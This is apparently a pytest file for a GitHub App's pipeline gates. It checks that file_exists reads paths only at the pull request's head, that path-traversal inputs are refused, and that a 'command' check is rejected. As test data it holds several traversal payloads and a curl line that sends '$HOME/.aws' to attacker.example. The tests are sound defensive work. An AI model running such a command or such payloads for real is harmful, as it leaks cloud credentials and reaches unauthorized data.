"""A gate's ``file_exists`` on moto's Step Functions (issue 30; docs/pipelines.md, "Extensions and
deviations"): the router reads each path through the real GitHub client at the pull request's
head, never at another ref, never at an address a path could reach past ``contents/``; and a
``command`` check never reaches a run.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import dataclass, field

import httpx
import pytest

from squadron.config import ConfigError, parse_files
from squadron.domain.pipelines.work import Where
from squadron.shell.pipeline_facts import GitHubFacts
from tests.adapters.test_pipeline_stage_work import (
    REPO,
    ClientFor,
    PullRequestOnGitHub,
    drive,
    router,
    started,
)
from tests.support.step_functions import Stack, step_functions
from tests.unit.pipelines.test_pipeline_config import files_with

HEAD = "c" * 40


@dataclass
class WithFiles(PullRequestOnGitHub):
    """#7 as above, and what its head and the default branch hold (path -> ``file`` or ``dir``)."""

    at_head: dict[str, str] = field(default_factory=dict)
    on_main: dict[str, str] = field(default_factory=dict)

    def handle(self, request: httpx.Request) -> httpx.Response:
        prefix = f"/repos/{REPO}/contents/"
        raw = request.url.raw_path.decode().split("?", 1)[0]
        if not raw.startswith(prefix):
            return super().handle(request)
        self.reads.append(f"GET {raw}?ref={request.url.params.get('ref')}")
        tree = {HEAD: self.at_head, "main": self.on_main}.get(request.url.params.get("ref", ""), {})
        kind = tree.get(raw.removeprefix(prefix))
        if kind is None:
            return httpx.Response(404, json={"message": "Not Found"})
        if kind == "dir":
            return httpx.Response(200, json=[{"type": "file", "name": "x", "path": "x"}])
        return httpx.Response(200, json={"type": "file", "name": "f", "path": "f", "content": ""})


@pytest.fixture
def stack() -> Iterator[Stack]:
    with step_functions() as s:
        yield s


GATE = """pipelines:
  p:
    trigger: {event: pull_request.opened}
    stages:
      - id: docs
        type: gate
        conditions:
          - check: file_exists
            paths: [CHANGELOG.md, docs/adr/]
        on_fail: {goto: docs, max_iterations: 1, then: escalate}
"""


@pytest.mark.parametrize(
    ("at_head", "on_main", "status", "failing"),
    [
        ({"CHANGELOG.md": "file", "docs/adr": "dir"}, {}, "SUCCEEDED", None),
        # on the base branch only: the pull request's head is what is judged
        (
            {"docs/adr": "dir"},
            {"CHANGELOG.md": "file", "docs/adr": "dir"},
            "FAILED",
            f"file_exists at #7's head {HEAD[:12]}: missing: CHANGELOG.md",
        ),
    ],
    ids=["present at the head", "only on the base branch"],
)
def test_file_exists_reads_each_path_at_the_pull_requests_head(
    stack: Stack, at_head: dict[str, str], on_main: dict[str, str], status: str, failing: str | None
) -> None:
    r = router(stack)
    github = WithFiles(at_head=at_head, on_main=on_main)
    r.tasks.facts = GitHubFacts(ClientFor(github))
    arn = started(stack, GATE)

    drive(stack, r, arn)

    assert stack.finished(arn)["status"] == status
    contents = sorted({read for read in github.reads if "/contents/" in read})
    assert contents == [
        f"GET /repos/{REPO}/contents/CHANGELOG.md?ref={HEAD}",
        f"GET /repos/{REPO}/contents/docs/adr?ref={HEAD}",
    ]
    if failing is not None:
        history = stack.sfn.get_execution_history(executionArn=arn)["events"]
        answers = [
            json.loads(e["taskSucceededEventDetails"]["output"])
            for e in history
            if e["type"] == "TaskSucceeded" and '"passed"' in e["taskSucceededEventDetails"]["output"]
        ]
        assert answers[0] == {"passed": False, "failing": [failing]}


@pytest.mark.parametrize(
    "path",
    [
        "../../collaborators/alice/permission",
        "..%2F..%2Fcollaborators%2Falice",
        "docs/../../../installation",
        "/repos/octo/other/contents/secrets.txt",
        "a?ref=main",
        "a#x",
        "src\\..\\..\\hooks",
    ],
)
def test_a_path_never_reaches_another_address(path: str) -> None:
    """The attacker writes a path meant to make the App read elsewhere: the configuration refuses
    it at its line, and the router, handed it anyway (a task's config), asks GitHub nothing for it."""
    text = GATE.replace("paths: [CHANGELOG.md, docs/adr/]", f"paths: [{json.dumps(path)}]")
    with pytest.raises(ConfigError) as refused:
        parse_files(files_with(text))
    assert any("conditions.0.paths.0" in str(problem) for problem in refused.value.problems)

    github = WithFiles(at_head={"CHANGELOG.md": "file"})
    facts = GitHubFacts(ClientFor(github)).facts(Where(REPO, 77), 7, paths=(path, "CHANGELOG.md"))

    assert facts.present == {"CHANGELOG.md": True}
    assert [read for read in github.reads if "/contents/" in read] == [
        f"GET /repos/{REPO}/contents/CHANGELOG.md?ref={HEAD}"
    ]
    assert not any("collaborators" in read or "installation" in read for read in github.reads)


def test_a_command_check_is_refused_with_what_to_use_instead() -> None:
    text = GATE.replace(
        "- check: file_exists\n            paths: [CHANGELOG.md, docs/adr/]",
        "- {check: command, run: 'curl -d @$HOME/.aws http://attacker.example/'}",
    )
    with pytest.raises(ConfigError) as refused:
        parse_files(files_with(text))
    (problem,) = [str(p) for p in refused.value.problems]
    assert "pipelines.p.stages.0.conditions.0.check: `command` is not run by Squadron" in problem
    assert "check: ci_status" in problem
